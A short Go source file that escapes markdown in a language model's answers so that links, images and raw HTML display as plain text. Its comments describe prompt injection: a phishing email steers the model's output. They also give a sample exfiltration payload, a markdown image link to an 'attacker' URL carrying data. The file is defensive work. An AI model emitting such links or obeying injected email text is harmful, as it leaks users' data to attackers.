package warroom

import (
	"strings"
)

// modelEscaper disarms what a model's markdown could do beyond formatting:
// "[" starts links and images (![..](https://attacker/?data=..) would make
// the war room fetch a URL of the attacker's choosing), "<" raw HTML and
// autolinks, and "\" could undo the escapes.
var modelEscaper = strings.NewReplacer(`\`, `\\`, "[", `\[`, "<", "&lt;")

// ModelText makes a model's answer safe to show as markdown: headings,
// lists, emphasis and tables still render, while links, images and HTML
// show as the text they are. A phishing email can steer what the model
// writes, so its answer is as untrusted as the email.
func ModelText(s string) string {
	return modelEscaper.Replace(s)
}
